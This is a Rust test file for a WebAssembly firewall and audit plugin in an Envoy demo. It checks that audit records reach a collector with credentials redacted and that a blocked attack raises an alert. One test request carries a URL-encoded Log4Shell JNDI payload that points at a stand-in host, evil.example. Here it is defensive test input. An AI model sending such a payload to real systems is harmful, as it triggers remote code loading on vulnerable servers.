//! The audit section of the `make run` demo's policy (`envoy-config/envoy.yaml`, one
//! `meshsight` plugin running the whole document in one pass): records go to the demo's
//! `collector` cluster with its token, and the blocked attack of the demo's banner arrives there
//! as an alert.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod demo;

use proxy_wasm_test_host::HttpCall;
use serde_json::Value;
use std::time::Duration;

fn header<'a>(call: &'a HttpCall, name: &str) -> Option<&'a str> {
    call.headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

#[test]
fn the_collector_gets_every_record_and_the_blocked_attack_as_an_alert() {
    let mut host = demo::start_demo();
    for (path, request_id) in [
        ("/api/items?token=abc", "demo-allowed"),
        ("/admin", "demo-denied"),
        (
            "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "demo-blocked-attack",
        ),
    ] {
        let id = demo::get(
            &mut host,
            "GET",
            path,
            &[("x-request-id", request_id), ("authorization", "Bearer x")],
        );
        demo::finish(&mut host, id);
    }
    host.advance_time(Duration::from_millis(1100));
    host.tick();
    let batches: Vec<HttpCall> = host
        .http_calls()
        .into_iter()
        .filter(|c| c.upstream == "collector")
        .collect();
    assert_eq!(batches.len(), 1, "one batch within the flush interval");
    let batch = &batches[0];
    assert_eq!(header(batch, ":path"), Some("/v1/audit"));
    assert_eq!(
        header(batch, "authorization"),
        Some("Bearer demo-collector-token")
    );
    let records: Vec<Value> = String::from_utf8_lossy(&batch.body)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let by_id = |id: &str| {
        records
            .iter()
            .find(|r| r["metadata"]["uid"] == id)
            .unwrap_or_else(|| panic!("no record {id}: {records:?}"))
    };
    let allowed = by_id("demo-allowed");
    assert_eq!(allowed["firewall_rule"]["name"], "api-read");
    assert_eq!(
        allowed["http_request"]["url"]["query_string"],
        "token=REDACTED"
    );
    assert!(
        !batch.body.windows(8).any(|w| w == b"Bearer x"),
        "the client's credentials are never recorded"
    );
    let denied = by_id("demo-denied");
    assert_eq!(denied["disposition"], "Blocked");
    assert_ne!(denied["is_alert"], true, "no signature, no alert: {denied}");
    let attack = by_id("demo-blocked-attack");
    assert_eq!(attack["disposition"], "Blocked");
    assert_eq!(attack["is_alert"], true, "{attack}");
    assert_eq!(attack["severity_id"], 4);
    assert_eq!(attack["http_response"]["code"], 403);
    assert_eq!(
        attack["unmapped"]["meshsight"]["mirror"]["signatures"][0],
        "log4shell"
    );
}

/// The demo's audit section is also a policy of its own: a `meshsight_audit` plugin (the
/// three-plugin form) accepts it, ticks for the http sink and delivers to the collector.
/// (Moved from audit.rs when the demo became one plugin.)
#[test]
fn the_demo_policy_in_envoy_yaml_is_accepted() {
    let audit = demo::demo_document()["audit"].to_string();
    let mut host = proxy_wasm_test_host::Host::builder(meshsight::register)
        .property(&["plugin_root_id"], "meshsight_audit")
        .plugin_config(&audit)
        .start()
        .unwrap_or_else(|e| panic!("the demo's audit section is refused: {e}\n{audit}"));
    assert_eq!(
        host.tick_period(),
        Some(Duration::from_millis(100)),
        "the demo uses the http sink"
    );
    let id = demo::get(
        &mut host,
        "GET",
        "/api/items?token=t",
        &[("x-request-id", "demo-1")],
    );
    demo::finish(&mut host, id);
    host.advance_time(Duration::from_secs(1));
    host.tick();
    let calls = host.http_calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].upstream, "collector");
}
